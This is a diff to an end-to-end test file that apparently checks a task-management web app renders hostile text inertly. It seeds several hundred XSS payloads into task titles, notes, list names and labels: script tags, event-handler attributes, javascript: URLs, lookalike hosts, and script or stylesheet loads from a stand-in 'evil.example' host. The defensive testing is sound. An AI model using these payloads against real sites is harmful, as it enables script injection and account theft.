@@ -1,6 +1,7 @@
 import { addLabel } from "@tasklane/contract/labels.ts";
-import { addListSection, addSublist } from "@tasklane/contract/lists.ts";
+import { addListSection, addSublist, rebuildFromTitles } from "@tasklane/contract/lists.ts";
 import { addSharedList, joinSharedList } from "@tasklane/contract/sharing.ts";
+import { encodeTitle } from "@tasklane/contract/titles.ts";
 import { callAs } from "../callAs.ts";
 import { Board } from "../board.ts";
 import { expect, test } from "../test.ts";
@@ -17,6 +18,146 @@ const MARKUP = [
   `{{constructor.constructor('window.hacked=1')()}}`,
 ];
 const [IMAGE = ""] = MARKUP;
+
+/** Elements that do something by being there, and addresses that do something by being followed. */
+const ELEMENTS = [
+  `<script>hacked=1</script>`,
+  `<script src=//evil.example/a.js></script>`,
+  `<img src=x onerror=hacked=1>`,
+  `<svg onload=hacked=1>`,
+  `<svg><script>hacked=1</script></svg>`,
+  `<svg><animate onbegin=hacked=1 attributeName=x dur=1s>`,
+  `<iframe srcdoc="<script>top.hacked=1</script>">`,
+  `<iframe src=javascript:top.hacked=1>`,
+  `<object data=javascript:hacked=1>`,
+  `<embed src=//evil.example/a>`,
+  `<video><source onerror=hacked=1></video>`,
+  `<audio src=x onerror=hacked=1>`,
+  `<details open ontoggle=hacked=1>`,
+  `<input autofocus onfocus=hacked=1>`,
+  `<body onload=hacked=1>`,
+  `<marquee onstart=hacked=1>`,
+  `<math><a xlink:href=javascript:hacked=1>win`,
+  `<form action=javascript:hacked=1><button>win`,
+  `<meta http-equiv=refresh content=0;url=//evil.example>`,
+  `<base href=//evil.example/>`,
+  `<link rel=stylesheet href=//evil.example/a.css>`,
+  `<style>@import'//evil.example/a.css'</style>`,
+  `<div style=background:url(//evil.example/a)>`,
+  `<template><script>hacked=1</script></template>`,
+  `<a href=javascript:hacked=1>win</a>`,
+];
+const ADDRESSES = [
+  `javascript:hacked=1`,
+  `JaVaScRiPt:hacked=1`,
+  `java script:hacked=1`,
+  `vbscript:hacked`,
+  `data:text/html,<script>hacked=1</script>`,
+  `//evil.example/a`,
+  `https://user@evil.example`,
+  `https://xn--80ak6aa92e.example`,
+  `https://аpple.example`,
+  `\\\\evil.example\\a`,
+  `view-source:https://evil.example`,
+  `blob:https://evil.example/a`,
+];
+/** What might end the place in which a text stands, and what might be undone before it is shown. */
+const AROUND: ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `">${text}`,
+  (text) => `'>${text}`,
+  (text) => `</script>${text}`,
+  (text) => `</textarea></title></style>${text}`,
+  (text) => `--><!--${text}-->`,
+  (text) => `]]>${text}`,
+  (text) => `{{${text}}}`,
+  (text) => `[win](${text})`,
+  (text) => encodeURIComponent(text),
+  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
+  (text) => text.replaceAll("<", String.raw`\u003c`),
+];
+const HOSTILE = [...ELEMENTS, ...ADDRESSES].flatMap((text) => AROUND.map((around) => around(text)));
+/** For places that there are fewer of. */
+const SOME = ELEMENTS.map((text) => `">${text}`);
+
+test("H08, H09: hundreds of hostile texts in titles, notes, names and labels are nothing but shown", async ({
+  alice,
+}) => {
+  test.slow();
+  expect(new Set(HOSTILE).size).toBeGreaterThan(400);
+  const { id } = alice.inGoogle.addList("Named");
+  for (const text of HOSTILE) alice.inGoogle.addTask("@default", text, { notes: text });
+  for (const name of SOME) {
+    alice.inGoogle.addList(name);
+    alice.inGoogle.addTask(
+      id,
+      encodeTitle({ text: name, sublist: name, section: name, label: name, path: [] }),
+    );
+  }
+  await alice.pull();
+  const places = [
+    ["sublist", null],
+    ["section", undefined],
+    ["label", null],
+  ] as const;
+  await callAs(alice, rebuildFromTitles, {
+    names: places.flatMap(([kind, sublist_name]) =>
+      SOME.map((name) => ({
+        google_list_id: id,
+        kind,
+        name,
+        sublist_name: sublist_name === undefined ? name : sublist_name,
+      })),
+    ),
+  });
+
+  const { page } = alice;
+  const board = new Board(page);
+  await page.addInitScript(() => {
+    const reports: string[] = [];
+    Object.assign(window, { reports });
+    addEventListener("securitypolicyviolation", ({ blockedURI }) => reports.push(blockedURI));
+  });
+  const harmless = async (): Promise<void> => {
+    const found = await page.evaluate(() => {
+      const made =
+        "iframe, object, embed, video, audio, math, marquee, base, details, template, [http-equiv]";
+      const odd = [...document.querySelectorAll(made)].map(({ outerHTML }) => outerHTML);
+      const all = [...document.querySelectorAll("*")];
+      const acts = all.filter((each) => each.getAttributeNames().some((name) => name.startsWith("on")));
+      const leads = [...document.querySelectorAll("a[href], link[href], [src], [action]")]
+        .map((each) => each.getAttribute("href") ?? each.getAttribute("src") ?? each.getAttribute("action")!)
+        .filter((to) => new URL(to, location.href).origin !== location.origin);
+      const { hacked, reports } = window as { hacked?: number; reports?: string[] };
+      return { odd, acts: acts.map(({ outerHTML }) => outerHTML), leads, hacked, reports };
+    });
+    expect(found).toEqual({ odd: [], acts: [], leads: [], hacked: undefined, reports: [] });
+  };
+
+  await page.goto("/dashboard");
+  const column = board.column("My Tasks");
+  await expect(column.locator("[data-card]").first()).toBeVisible();
+  const seen = new Set<string>();
+  await expect
+    .poll(
+      async () => {
+        for (const text of await column.locator("[data-card] [dir=auto]").allInnerTexts()) seen.add(text);
+        await harmless();
+        await column.locator("[data-card]").last().scrollIntoViewIfNeeded();
+        return HOSTILE.filter((text) => !seen.has(text));
+      },
+      { timeout: 30_000, intervals: [0] },
+    )
+    .toEqual([]);
+
+  await page.goto(`/dashboard/main/${id}`);
+  for (const name of SOME) await expect(page.getByRole("region", { name, exact: true })).toBeAttached();
+  await harmless();
+  await page.getByRole("button", { name: "Create Label" }).click();
+  for (const name of SOME)
+    await expect(page.getByRole("button", { name: `Edit ${name}`, exact: true })).toBeAttached();
+  await harmless();
+});
 
 test("H08: markup in every text is shown as it was written, and nothing of it is run", async ({
   alice,
